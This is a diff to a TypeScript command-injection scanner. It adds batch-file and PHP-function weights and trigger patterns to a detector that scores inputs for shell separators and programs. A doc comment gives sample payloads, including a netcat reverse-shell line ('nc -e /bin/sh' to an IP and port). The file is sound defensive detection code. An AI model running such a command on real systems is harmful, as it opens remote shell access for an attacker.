@@ -1,13 +1,15 @@
 // Command injection: a shell's separator, then a program it would start, then what only a shell reads.
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are spelt as they are sent.
-import { callWeight } from './command-call.ts';
+import { BATCH_TRIGGERS, batchWeight } from './command-batch.ts';
+import { callWeight, phpWeight } from './command-call.ts';
 import { namesByWildcards, undisguised } from './command-disguise.ts';
 import { isArgument, programAt } from './command-program.ts';
 import { separatorWeight } from './command-separator.ts';
-import { BARE, LONE_PROGRAMS, SUBCOMMANDS, TELLING_PARTS } from './command-words.ts';
+import { BARE, LONE_PROGRAMS, PHP_FUNCTIONS, SUBCOMMANDS, TELLING_PARTS } from './command-words.ts';
 import { heaviestPart } from './heaviest-part.ts';
 import type { Scanner, View } from './scanner.ts';
 import { skipSpace, wordEnd } from './text-scan.ts';
+import { START } from './trigger-automaton.ts';
 
 /** Nothing but a command: `cat /etc/hosts`, `nc -e /bin/sh 203.0.113.5 4444`. */
 const bareWeight = ({ lower, place }: View): number => {
@@ -45,6 +47,8 @@ const scan = (view: View): number => {
     separatorWeight(view),
     callWeight(view),
     bareWeight(view),
+    batchWeight(lower),
+    phpWeight(view),
     hidden,
     expandsOwnVariable(lower) ? 3 : 0,
     (lower.includes('?') || lower.includes('*')) && namesByWildcards(lower) ? 5 : 0,
@@ -56,6 +60,11 @@ const scan = (view: View): number => {
 export const commandScanner: Scanner = {
   class: 'command',
   triggers: [
+    ...BATCH_TRIGGERS,
+    ...PHP_FUNCTIONS.map((name) => `${name}(`),
+    // A variable or a bracket that a value begins with, to be called.
+    `${START}$`,
+    `${START}(`,
     ...[
       ';',
       '|',
